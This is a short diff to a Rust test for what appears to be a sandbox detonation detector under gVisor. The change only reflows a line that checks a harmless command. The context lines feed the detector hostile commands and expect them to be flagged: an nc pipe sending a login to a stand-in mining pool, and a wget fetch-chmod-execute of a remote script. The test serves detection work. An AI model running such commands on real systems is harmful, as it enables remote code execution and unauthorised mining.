@@ -111,7 +111,8 @@ fn the_same_under_gvisor() {
         detonation
     };
     // What is removed at once may be gone before gVisor tells of it, which is a gap: nothing of it is tried here.
-    let clean = check("echo hello; id; ls /; date > /tmp/x; mv /tmp/x /tmp/y; mkdir /tmp/z; rmdir /tmp/z", &[]);
+    let clean =
+        check("echo hello; id; ls /; date > /tmp/x; mv /tmp/x /tmp/y; mkdir /tmp/z; rmdir /tmp/z", &[]);
     assert!(clean.outcome.gaps.is_empty(), "{:?}", clean.outcome.gaps);
     check(&format!("(echo '{LOGIN}'; sleep 2) | nc pool.invalid 443"), &["D-MIN-STRATUM"]);
     check("wget -q -O /tmp/x http://203.0.113.7/x.sh && chmod +x /tmp/x && /tmp/x", &["D-DLX-FETCHEXEC"]);
